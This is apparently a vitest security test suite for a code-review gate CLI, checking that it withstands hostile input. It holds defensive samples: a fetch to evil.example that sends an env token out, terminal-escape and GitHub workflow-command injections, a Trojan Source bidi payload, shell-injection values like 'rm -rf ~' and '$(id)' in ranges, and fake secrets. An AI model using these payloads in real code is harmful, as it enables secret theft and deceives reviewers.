// What the gate withstands from hostile input: the list of attacks, each tried through the built
// bin the way an attacker (an agent in the same shell, or the change itself) would try it.
// Read the `describe`/`it` names top to bottom as that list.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BIN } from '../helpers/cli.js';
import { runInProcess } from '../helpers/inproc.js';
import { cleanEnv, makeRepo, type TestRepo } from '../helpers/repo.js';

let repo: TestRepo;
beforeEach(() => {
  repo = makeRepo();
  repo.write('.reviewgate.yml', 'version: 1\nreview:\n  piped: allow\nplan:\n  required: false\nrun:\n  required: false\ntests:\n  required: false\n');
  repo.write('README.md', 'x\n');
  repo.commitAll('initial');
});
afterEach(() => repo.remove());

/** The rules a check judges by are the committed ones: commit them (these tests answer review through a pipe). */
function rules(text: string | Buffer): void {
  repo.write('.reviewgate.yml', typeof text === 'string' ? text.replace(/^version: 1\n/, 'version: 1\nreview:\n  piped: allow\n') : text);
  repo.git('add', '.reviewgate.yml');
  repo.git('commit', '-q', '--no-verify', '-m', 'rules');
}

const ESC = '\x1b';
/** Any byte a terminal acts on, other than a newline ending a line of ours. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f\u0080-\u009f\u202a-\u202e\u2066-\u2069\u200b-\u200d]/;

describe('what the reviewer sees is what is there', () => {
  it('writes out terminal escapes from a concern and a path in every printed report, even with NO_COLOR', async () => {
    const name = `evil${ESC}[2J${ESC}[1A.txt`;
    repo.write(name, 'payload\n');
    repo.git('add', '-A');
    // A concern whose text clears the screen and paints a fake verdict.
    const review = await runInProcess(repo.dir, ['review'], { input: `! ${ESC}[2K${ESC}[1G✓ review  all lines reviewed${ESC}[0m\n${ESC}[2J\nq\n` });
    expect(review.code).toBe(0);
    expect(review.stdout).not.toContain(ESC);
    for (const format of ['text', 'markdown', 'github']) {
      const r = await runInProcess(repo.dir, ['check', '--format', format], { env: { NO_COLOR: '1' } });
      expect(r.code, format).toBe(1);
      for (const line of r.stdout.split('\n')) expect(line, `${format}: ${JSON.stringify(line)}`).not.toMatch(RAW_CONTROL);
      expect(r.stdout, format).toContain('^[[2J');
    }
    const list = await runInProcess(repo.dir, ['review', '--list']);
    expect(list.stdout).not.toMatch(RAW_CONTROL);
    expect(list.stdout).toContain("^[[2K^[[1G✓ review");
    // JSON keeps the exact text: it is data, escaped by JSON itself.
    const json = JSON.parse((await runInProcess(repo.dir, ['check', '--format', 'json'])).stdout) as { gates: { findings: { message: string }[] }[] };
    expect(json.gates[1]?.findings.some((f) => f.message.includes(`${ESC}[2K`))).toBe(true);
  });

  it('plan --show writes out escapes from the plan file', async () => {
    repo.write('a.txt', 'two\n');
    repo.git('add', 'a.txt');
    const plan = `## Goal\ng\n## Approach\na\n## Risks\nr\n## Test checklist\n- [ ] works ${ESC}[2J\n`;
    expect((await runInProcess(repo.dir, ['plan', '--from', '-', '--title', `t${ESC}]0;owned${ESC}\\`], { input: plan })).code).toBe(0);
    const r = await runInProcess(repo.dir, ['plan', '--show']);
    expect(r.stdout).toContain('works ^[[2J');
    expect(r.stdout).not.toMatch(RAW_CONTROL);
  });

  it('--format github: a newline in a file name or a concern cannot inject ::stop-commands:: or ::error', async () => {
    repo.write('a\n::stop-commands::pwned\n::error file=x::fake.txt', 'payload\n');
    repo.git('add', '-A');
    await runInProcess(repo.dir, ['review'], { input: '! ok\n::error::injected from a concern\nq\n' });
    const r = await runInProcess(repo.dir, ['check', '--format', 'github']);
    expect(r.code).toBe(1);
    // The runner reads a workflow command from any line that starts with `::` after trimming.
    const commands = r.stdout.split('\n').map((l) => l.trim()).filter((l) => l.startsWith('::'));
    expect(commands.length).toBeGreaterThan(0);
    for (const c of commands) expect(c).toMatch(/^::(error|warning|notice) [^:\n]*title=reviewgate [^:]*::/);
    expect(r.stdout).not.toMatch(/^\s*::stop-commands::/m);
    expect(r.stdout).not.toMatch(/^\s*::error::/m);
  });

  it('a line moved between places whose nearest neighbours are equal is unreviewed at its new place', async () => {
    const roles = (admin: string[], guest: string[]) =>
      `export const roles = {\n  admin: [\n${admin.map((r) => `    '${r}',\n`).join('')}  ],\n  guest: [\n${guest.map((r) => `    '${r}',\n`).join('')}  ],\n};\n`;
    repo.write('roles.js', roles(['read', 'delete'], ['read']));
    repo.git('add', '-A');
    expect((await runInProcess(repo.dir, ['review'], { input: 'y\n' })).code).toBe(0);
    repo.git('commit', '-q', '--no-verify', '-m', 'roles');
    // Base: the reviewed file; the change moves `'delete',` from admin to guest.
    repo.write('roles.js', roles(['read'], ['read', 'delete']));
    repo.git('add', 'roles.js');
    const r = JSON.parse((await runInProcess(repo.dir, ['review', '--list', '--format', 'json'])).stdout) as { items: { lines: { side: string; text: string }[] }[] };
    expect(r.items.flatMap((i) => i.lines).filter((l) => l.side === '+').map((l) => l.text.trim())).toEqual(["'delete',"]);
  });

  it('Trojan Source: a bidi override is shown as ⟨U+202E⟩ when reviewed and fails the review gate', async () => {
    // The classic: the comment looks closed, so the early return looks like a comment.
    repo.write('auth.js', 'const isAdmin = false;\n/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nconsole.log("admin");\n');
    repo.git('add', '-A');
    const review = await runInProcess(repo.dir, ['review'], { input: 'y\n' });
    expect(review.stdout).toContain('⟨U+202E⟩');
    expect(review.stdout).toContain('⟨U+2066⟩');
    expect(review.stdout).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    const r = await runInProcess(repo.dir, ['check', '--format', 'json']);
    expect(r.code).toBe(1);
    const review_ = (JSON.parse(r.stdout) as { gates: { id: string; findings: { code: string; file?: string; line?: number; severity: string }[] }[] }).gates[1];
    expect(review_?.findings).toContainEqual(expect.objectContaining({ code: 'review.bidi', file: 'auth.js', line: 2, severity: 'error' }));
    const text = await runInProcess(repo.dir, ['check']);
    expect(text.stdout).toContain('U+202E');
    expect(text.stdout).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });

  it('a zero-width character in an added line is shown and warned about', async () => {
    repo.write('a.js', 'const admin\u200b = 1;\n');
    repo.git('add', '-A');
    const review = await runInProcess(repo.dir, ['review'], { input: 'y\n' });
    expect(review.stdout).toContain('admin⟨U+200B⟩');
    const r = await runInProcess(repo.dir, ['check', '--format', 'json']);
    const findings = (JSON.parse(r.stdout) as { gates: { findings: { code: string; severity: string }[] }[] }).gates[1]?.findings;
    expect(findings).toContainEqual(expect.objectContaining({ code: 'review.invisible', severity: 'warning' }));
  });
});

describe('attributes cannot hide source lines', () => {
  interface Listed { items: { file: string; kind: string; lines: { text: string }[] }[] }
  const listed = async () => JSON.parse((await runInProcess(repo.dir, ['review', '--list', '--format', 'json'])).stdout) as Listed;

  it.each([
    ['-diff', 'lib/*.js -diff\n'],
    ['binary', 'lib/*.js binary\n'],
    ['a diff driver marked binary', 'lib/*.js diff=opaque\n'],
  ])('%s in .gitattributes: the changed lines of a text file are still lines to review', async (_, attributes) => {
    repo.write('.gitattributes', attributes);
    repo.write('lib/a.js', 'export const a = 1;\n');
    repo.commitAll('attributes');
    repo.git('config', 'diff.opaque.binary', 'true');
    repo.write('lib/a.js', 'export const a = 1;\nfetch("https://evil.example/" + process.env.TOKEN);\n');
    repo.git('add', '-A');
    const items = (await listed()).items;
    expect(items).toHaveLength(1);
    expect(items[0]).toMatchObject({ file: 'lib/a.js', kind: 'lines' });
    expect(items[0]?.lines.map((l) => l.text)).toEqual(['fetch("https://evil.example/" + process.env.TOKEN);']);
  });

  it('a file with a NUL in its first 8000 bytes is still one binary item', async () => {
    repo.write('.gitattributes', 'lib/* -diff\n');
    repo.write('lib/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3, 10]));
    repo.write('lib/b.js', 'b\n');
    repo.git('add', '-A');
    const items = (await listed()).items;
    expect(items.find((i) => i.file === 'lib/logo.png')?.kind).toBe('binary');
    expect(items.find((i) => i.file === 'lib/b.js')?.kind).toBe('lines');
  });
});

describe('a checklist item needs a test that runs', () => {
  it('a title inside if (false) does not satisfy the plan\'s test checklist', async () => {
    rules('version: 1\ntests:\n  rules: []\n');
    repo.write('.reviewgate/plans/main.md', '---\ntitle: t\nbranch: main\nrecorded_at: 2026-01-01T00:00:00.000Z\nstatus: active\nchange_at_record: { files: 0, lines: 0 }\n---\n## Goal\ng\n## Test checklist\n- [ ] a works\n');
    repo.write('test/a.test.ts', "import { it } from 'vitest';\nif (false) {\n  it('a works', () => {});\n}\n");
    repo.git('add', '-A');
    const r = await runInProcess(repo.dir, ['tests', '--format', 'json']);
    const out = JSON.parse(r.stdout) as { checklist: { text: string; state: string }[] };
    expect(out.checklist).toEqual([expect.objectContaining({ text: 'a works', state: 'missing' })]);
    expect(r.code).toBe(1);
  });
});

describe('secrets in run output stay out of the evidence', () => {
  it('masks keys, passwords and secret env values in the output tail kept with a run record', async () => {
    rules('version: 1\nrun:\n  commands: ["node leak.js"]\n');
    repo.write('leak.js', [
      "console.log('AWS_SECRET_ACCESS_KEY=Kx9fA2bQ7mZ3nP4rS8tV1wY6uE0iO5lH2jG7dF3c');",
      "console.log('-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\\n-----END RSA PRIVATE KEY-----');",
      "console.log(JSON.stringify({ password: 'hunter2hunter2' }));",
      "console.log('db at postgres://app:s3cr3tP4ss@db.internal/app');",
      "console.log('using ' + process.env.DB_PASS);",
      'process.exit(1);',
    ].join('\n'));
    repo.git('add', '-A');
    const r = await runInProcess(repo.dir, ['run'], { env: { DB_PASS: 'correct-horse-battery' } });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('masked');
    const evidence = repo.read('.reviewgate/evidence/main.jsonl');
    expect(evidence).toContain('***');
    for (const secret of ['Kx9fA2bQ7mZ3nP4rS8tV1wY6uE0iO5lH2jG7dF3c', 'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun', 'hunter2hunter2', 's3cr3tP4ss', 'correct-horse-battery']) {
      expect(evidence).not.toContain(secret);
    }
  });
});

describe('input that breaks the tool', () => {
  /** A path inside the repository whose name holds the byte `b` (not valid UTF-8 on its own). */
  const rawName = (b: number) => Buffer.concat([Buffer.from(`${repo.dir}/dir`), Buffer.from([b]), Buffer.from('/a.txt')]);
  const gateOk = async (id: string) => (JSON.parse((await runInProcess(repo.dir, ['check', '--format', 'json'])).stdout) as { gates: { id: string; ok: boolean }[] }).gates.find((g) => g.id === id)?.ok;

  it('paths that differ only in invalid UTF-8 bytes do not share review keys', async () => {
    mkdirSync(rawName(0xfe).subarray(0, -6), { recursive: true });
    writeFileSync(rawName(0xfe), 'same line\n');
    repo.git('add', '-A');
    expect((await runInProcess(repo.dir, ['review'], { input: 'y\n' })).code).toBe(0);
    expect(await gateOk('review')).toBe(true);
    // The reviewed file goes; another path, equal once decoded with replacement characters, comes.
    mkdirSync(rawName(0xff).subarray(0, -6), { recursive: true });
    renameSync(rawName(0xfe), rawName(0xff));
    repo.git('add', '-A');
    expect(await gateOk('review')).toBe(false);
    expect((await runInProcess(repo.dir, ['review', '--list'])).stdout).toContain('dir\\xFF/a.txt');
  });

  it('paths that differ only in invalid UTF-8 bytes do not share the run fingerprint', async () => {
    rules('version: 1\nrun:\n  commands: ["node -e 0"]\n');
    mkdirSync(rawName(0xfe).subarray(0, -6), { recursive: true });
    writeFileSync(rawName(0xfe), 'x\n');
    repo.git('add', '-A');
    expect((await runInProcess(repo.dir, ['run'])).code).toBe(0);
    expect(await gateOk('run')).toBe(true);
    mkdirSync(rawName(0xff).subarray(0, -6), { recursive: true });
    renameSync(rawName(0xfe), rawName(0xff));
    repo.git('add', '-A');
    expect(await gateOk('run')).toBe(false);
  });
});

describe('input that breaks the tool gets a precise message', () => {
  const check = async (args: string[] = []) => await runInProcess(repo.dir, ['check', ...args]);
  it.each([
    ['a timeout past what a timer can wait (~24.8 days)', '3000000', 'run.timeout: is 3000000, longer than the longest limit, 24 days'],
    ['a duration string past it', '"99999999999h"', 'longer than the longest limit'],
    ['a number too large for YAML', '1e400', 'run.timeout: is Infinity: a number too large to hold'],
    ['a duration that is not one', '"1e5s"', 'expected seconds or a duration such as "90s"'],
  ])('run.timeout: %s', async (_case, value, message) => {
    rules(`version: 1\nrun:\n  timeout: ${value}\n`);
    const r = await check();
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
    expect(r.stderr).not.toContain('Invalid input');
  });

  it('a configuration that is not UTF-8 is an error at its line and column, not U+FFFD', async () => {
    rules(Buffer.concat([Buffer.from('version: 1\nrun:\n  commands: ["npm te'), Buffer.from([0xff]), Buffer.from('st"]\n')]));
    const r = await check();
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('.reviewgate.yml:3:21: the configuration is not valid UTF-8');
  });

  it('inside .git/ says so and names the work tree, not "bare repository"', async () => {
    const r = await runInProcess(`${repo.dir}/.git`, ['check']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('inside the git directory');
    expect(r.stderr).not.toContain('bare repository');
    expect(r.stderr).toContain(`cd "${repo.dir}"`);
  });

  it.each(['HEAD..--output=x', 'origin/x;rm -rf ~..HEAD', 'a$(id)..HEAD'])('an unknown --range revision %j is never pasted into a suggested command', async (range) => {
    const r = await check(['--range', range]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown revision');
    expect(r.stderr).not.toMatch(/fix: git fetch/);
  });

  it('an unknown plain branch name still gets the fetch to run', async () => {
    const r = await check(['--range', 'origin/feature-1..HEAD']);
    expect(r.stderr).toContain('fix: git fetch origin feature-1');
  });
});

describe('nothing is lost', () => {
  const stageChange = () => {
    repo.write('a.txt', 'one\ntwo\n');
    repo.git('add', 'a.txt');
  };

  it('a disk that refuses the evidence: exit 2 naming the path, and the answers are kept for the next review', async () => {
    stageChange();
    repo.write('.reviewgate', 'a file where the evidence folder should be\n');
    const r = await runInProcess(repo.dir, ['review'], { input: 'y\n' });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('.reviewgate/evidence');
    expect(r.stderr).toContain('unrecorded-answers.jsonl');
    expect(r.stderr).not.toContain('internal error');
    const kept = readFileSync(join(repo.dir, '.git/reviewgate/unrecorded-answers.jsonl'), 'utf8');
    expect(kept).toContain('"type":"review"');
    rmSync(join(repo.dir, '.reviewgate'));
    const next = await runInProcess(repo.dir, ['review'], { input: 'q\n' });
    expect(next.stdout).toContain('1 answer of an earlier review could not be recorded');
  });

  it('a disk that refuses the plan: exit 2 naming the path, and the plan is kept', async () => {
    stageChange();
    repo.write('.reviewgate', 'a file where the evidence folder should be\n');
    const r = await runInProcess(repo.dir, ['plan', '--from', '-'], { input: '## Goal\nkeep me\n## Approach\na\n## Risks\nr\n## Test checklist\n- [ ] t\n' });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('.reviewgate/plans');
    expect(r.stderr).toContain('plan-draft.md');
    expect(readFileSync(join(repo.dir, '.git/reviewgate/plan-draft.md'), 'utf8')).toContain('keep me');
  });

  it('check --output to a folder that does not exist: exit 2 naming the path, not "internal error"', async () => {
    const r = await runInProcess(repo.dir, ['check', '--output', 'no/such/dir/report.txt']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('no/such/dir/report.txt');
    expect(r.stderr).not.toContain('internal error');
  });

  it('a corrupt work-tree evidence file: review and run refuse, naming file:line, before asking or running anything', async () => {
    stageChange();
    repo.write('.reviewgate/evidence/main.jsonl', '{"v":1}\nnot json\n');
    const review = await runInProcess(repo.dir, ['review'], { input: 'y\n' });
    expect(review.code).toBe(2);
    expect(review.stderr).toContain('.reviewgate/evidence/main.jsonl:1:');
    expect(review.stdout).not.toContain('Reviewed?');
    rules('version: 1\nrun:\n  commands: ["node -e \\"require(\'fs\').writeFileSync(\'ran\', \'\')\\""]\n');
    repo.git('add', '.reviewgate.yml');
    const run = await runInProcess(repo.dir, ['run']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('.reviewgate/evidence/main.jsonl:1:');
    expect(existsSync(join(repo.dir, 'ran'))).toBe(false);
  });

  it('the evidence folder .gitattributes is staged again after a git add that failed once', async () => {
    stageChange();
    writeFileSync(join(repo.dir, '.git/index.lock'), '');
    expect((await runInProcess(repo.dir, ['review'], { input: 'y\n' })).code).toBe(2);
    rmSync(join(repo.dir, '.git/index.lock'));
    repo.write('b.txt', 'b\n');
    repo.git('add', 'b.txt');
    expect((await runInProcess(repo.dir, ['review'], { input: 'y\ny\n' })).code).toBe(0);
    expect(repo.git('diff', '--cached', '--name-only')).toContain('.reviewgate/.gitattributes');
  });
});

describe('leftovers of a killed command do not outlive the next command', () => {
  const DEAD_PID = 99_999_999; // above any pid_max: no such process
  const old = (path: string) => utimesSync(path, new Date(Date.now() - 3_600_000), new Date(Date.now() - 3_600_000));

  it('run.lock temp files (zero bytes too) are removed by the next run', async () => {
    rules('version: 1\nrun:\n  commands: ["node -e 0"]\n');
    repo.git('add', '-A');
    const dir = join(repo.dir, '.git/reviewgate');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, `run.lock.${DEAD_PID}.0123456789abcdef.tmp`), '');
    writeFileSync(join(dir, 'run.lock.0123456789abcdef.tmp'), '');
    old(join(dir, 'run.lock.0123456789abcdef.tmp'));
    expect((await runInProcess(repo.dir, ['run'])).code).toBe(0);
    expect(readdirSync(dir).filter((n) => n.endsWith('.tmp'))).toEqual([]);
  });

  it('an evidence temp file that git add -A would commit is removed by the next review', async () => {
    repo.write('a.txt', 'two\n');
    repo.git('add', 'a.txt');
    const dir = join(repo.dir, '.reviewgate/evidence');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, `.main.jsonl.${DEAD_PID}.0123456789ab.tmp`), '{"half":');
    writeFileSync(join(dir, '.main.jsonl.0123456789ab.tmp'), '');
    old(join(dir, '.main.jsonl.0123456789ab.tmp'));
    await runInProcess(repo.dir, ['review'], { input: 'q\n' });
    expect(readdirSync(dir).filter((n) => n.endsWith('.tmp'))).toEqual([]);
  });

  it('no reviewgate-plan-* folder is left in the temp folder by a plan written in an editor, nor by a killed one', () => {
    const tmp = mkdtempSync(join(tmpdir(), 'reviewgate-tmpdir-'));
    try {
      mkdirSync(join(tmp, `reviewgate-plan-${DEAD_PID}-abc123`));
      const plan = join(tmp, 'written.md');
      writeFileSync(plan, '## Goal\ng\n## Approach\na\n## Risks\nr\n## Test checklist\n- [ ] t\n');
      const r = spawnSync('script', ['-q', '-e', '-c', `'${process.execPath}' '${BIN}' plan`, '/dev/null'], {
        cwd: repo.dir,
        env: cleanEnv({ EDITOR: `cp '${plan}'`, TERM: 'dumb', TMPDIR: tmp }),
        encoding: 'utf8',
        input: '',
      });
      expect(r.status, r.stdout).toBe(0);
      expect(readdirSync(tmp).filter((n) => n.startsWith('reviewgate-plan-'))).toEqual([]);
    } finally {
      rmSync(tmp, { recursive: true, force: true });
    }
  });
});

describe('a run command that stages its own edits', () => {
  it('is void, and run says why (not only check, later)', async () => {
    repo.write('fmt.js', "require('fs').writeFileSync('a.txt', 'formatted\\n'); require('child_process').execSync('git add a.txt');\n");
    rules('version: 1\nrun:\n  commands: ["node fmt.js"]\n');
    repo.write('a.txt', 'raw\n');
    repo.git('add', '-A');
    const r = await runInProcess(repo.dir, ['run']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('a command staged its own edits');
    expect(r.stderr).toContain('a.txt');
  });
});

describe('evidence size is bounded', () => {
  it('a huge evidence line is refused quickly, naming file:line', async () => {
    repo.write('a.txt', 'two\n');
    const huge = `{"v":1,"type":"note","keys":["${'k'.repeat(50 * 1024 * 1024)}"]}\n`;
    repo.write('.reviewgate/evidence/main.jsonl', `${huge}`);
    repo.git('add', '-A');
    const t0 = Date.now();
    const r = await runInProcess(repo.dir, ['check']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('.reviewgate/evidence/main.jsonl:1: a record of 50 MB, more than the 48 MB a record may hold');
    expect(Date.now() - t0).toBeLessThan(10_000);
  });

  it('a 20,000-line review writes under 50 bytes a line of evidence', async () => {
    repo.write('big.js', Array.from({ length: 20_000 }, (_, i) => `const v${i} = compute(${i}, "item-${i}");\n`).join(''));
    repo.git('add', '-A');
    expect((await runInProcess(repo.dir, ['review'], { input: 'y\n' })).code).toBe(0);
    const bytes = readFileSync(join(repo.dir, '.reviewgate/evidence/main.jsonl')).length;
    expect(bytes / 20_000).toBeLessThan(50);
    expect((await runInProcess(repo.dir, ['check', '--gate', 'review'])).code).toBe(0);
  });
});

describe('evidence never keeps hashes of lines that did not land', () => {
  it('a line reviewed and then edited away before the commit loses its key at the next recording', async () => {
    repo.write('config.js', 'const a = 1;\nconst b = 2;\nconst c = 3;\nconst user = "app";\nconst password = "hunter2";\n');
    repo.git('add', '-A');
    expect((await runInProcess(repo.dir, ['review'], { input: 'y\n' })).code).toBe(0);
    const keysOf = () =>
      readFileSync(join(repo.dir, '.reviewgate/evidence/main.jsonl'), 'utf8')
        .split('\n')
        .filter(Boolean)
        .flatMap((l) => (JSON.parse(l) as { keys?: string[] }).keys ?? []);
    const before = new Set(keysOf());
    expect(before.size).toBe(5);
    repo.write('config.js', 'const a = 1;\nconst b = 2;\nconst c = 3;\nconst user = "app";\nconst password = process.env.DB_PASS;\n');
    repo.git('add', 'config.js');
    expect((await runInProcess(repo.dir, ['review'], { input: 'y\n' })).code).toBe(0);
    const after = keysOf();
    // The keys of `const password = "hunter2";` and of the two lines before it are gone; the first two stay.
    expect(after.filter((k) => before.has(k))).toHaveLength(2);
    expect(after).toHaveLength(5);
    expect((await runInProcess(repo.dir, ['check', '--gate', 'review'])).code).toBe(0);
  });
});
